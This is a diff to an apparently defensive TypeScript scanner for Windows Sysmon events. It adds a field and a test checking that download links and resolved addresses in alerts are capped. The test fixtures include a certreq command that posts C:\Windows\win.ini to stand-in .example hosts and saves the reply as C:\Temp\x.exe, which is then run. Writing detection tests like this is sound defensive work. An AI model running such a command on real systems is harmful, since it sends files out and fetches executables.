@@ -16,6 +16,7 @@ type Extent = {
   executed?: Executed[];
   executed_truncated?: true;
   downloaded_by?: { alert_id: string; file?: string; url?: string }[];
+  downloaded_by_truncated?: true;
   destination?: {
     url_host?: string;
     resolved_ips?: string[];
@@ -203,4 +204,22 @@ test('a download run only through a script host says which one', () => {
   const [a] = scan(events, certreqOnly);
   assert.equal(a!.context!.severity, 'critical');
   assert.match(a!.context!.reason!, /and the downloaded file C:\\ProgramData\\k\.bin ran via rundll32\.exe at 2026-03-01T10:00:02\.000Z as PID 2$/);
+});
+
+test('limits: downloaded_by links and resolved addresses shown are capped', () => {
+  const events: WinEvent[] = [];
+  for (let i = 0; i < 21; i++) {
+    events.push(sysmonStart({ host: 'WS01', time: `2026-03-01T10:00:${String(i).padStart(2, '0')}.000Z`, guid: `g-c${i}`, pid: 100 + i, image: CERTREQ, cmd: `certreq -Post -config https://d${i}.example/p C:\\Windows\\win.ini C:\\Temp\\x.exe` }));
+  }
+  const ips = Array.from({ length: 20 }, (_, i) => `::ffff:198.51.100.${i + 1}`).join(';');
+  events.push(sysmonDns({ host: 'WS02', time: '2026-03-01T10:00:30.000Z', guid: 'g-w2', pid: 200, query: 'd0.example', results: `${ips};` }));
+  events.push(sysmonStart({ host: 'WS01', time: '2026-03-01T10:01:00.000Z', guid: 'g-run', pid: 300, image: 'C:\\Temp\\x.exe', cmd: 'x.exe' }));
+  const alerts = scan(events, (ev) => (ev.data['ProcessGuid'] === '{g-run}' ? [DROPPER] : certreqOnly(ev)));
+  const run = extentOf(alerts.find((a) => a.rule.id === DROPPER.id))!;
+  assert.equal(run.downloaded_by!.length, 20);
+  assert.equal(run.downloaded_by_truncated, true);
+  assert.equal(alerts.filter((a) => / ran at 2026-03-01T10:01:00\.000Z as PID 300$/.test(a.context!.reason!)).length, 21, 'every download of the file that ran says so');
+  const first = extentOf(alerts[0])!.destination!;
+  assert.equal(first.resolved_ips!.length, 16);
+  assert.deepEqual(first.hosts!.map((h) => h.host), ['ws02']);
 });
